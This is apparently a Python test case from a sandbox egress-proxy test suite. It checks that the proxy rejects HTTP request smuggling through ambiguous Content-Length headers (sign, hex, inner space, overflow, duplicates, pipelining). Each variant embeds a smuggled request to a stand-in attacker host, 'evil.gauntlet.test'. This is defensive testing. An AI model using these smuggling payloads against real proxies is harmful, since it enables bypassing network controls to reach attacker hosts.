# name: egress-smuggle-length
# tries: smuggle a second request past the egress proxy to the allowed host with Content-Length values two parsers read differently: a sign (+49), hex (0x31), an inner space, a number past 64 bits, two differing values, and a request pipelined behind an honest body
# must: refuse every length that is not one decimal number (400 and a network violation), forward the rest in the proxy's own framing, and let the allowed host see no second request and no framing a strict server refuses
# network: allow=allowed.gauntlet.test:{http_port}
# expect: *=ok egress=violation:network
import os
import socket

target = os.environ.get("GAUNTLET_HTTP", "allowed.gauntlet.test:80")
evil = os.environ.get("GAUNTLET_EVIL", "evil.gauntlet.test")
smuggled = f"GET /smuggled HTTP/1.1\r\nHost: {evil}\r\n\r\n"
n = len(smuggled)


def via_proxy(req):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    except OSError as e:
        return f"no proxy: {e}"
    try:
        s.sendall(req.encode())
        data = s.recv(4096)
        return data.decode(errors="replace").splitlines()[0] if data else "closed"
    except OSError as e:
        return f"error: {e}"
    finally:
        s.close()


def post(fields, payload):
    return f"POST http://{target}/upload HTTP/1.1\r\nHost: {target}\r\n{fields}\r\n\r\n{payload}"


for name, req in [
    ("sign", post(f"Content-Length: +{n}", smuggled)),
    ("hex", post(f"Content-Length: 0x{n:x}", smuggled)),
    ("inner space", post(f"Content-Length: {n // 10} {n % 10}", smuggled)),
    ("past 64 bits", post("Content-Length: 18446744073709551616", smuggled)),
    ("two values", post(f"Content-Length: 0\r\nContent-Length: {n}", smuggled)),
    ("pipelined", post("Content-Length: 5", "hello" + smuggled)),
    ("repeated", post("Content-Length: 5\r\nContent-Length: 5", "hello" + smuggled)),
]:
    print(f"{name}: {via_proxy(req)}")
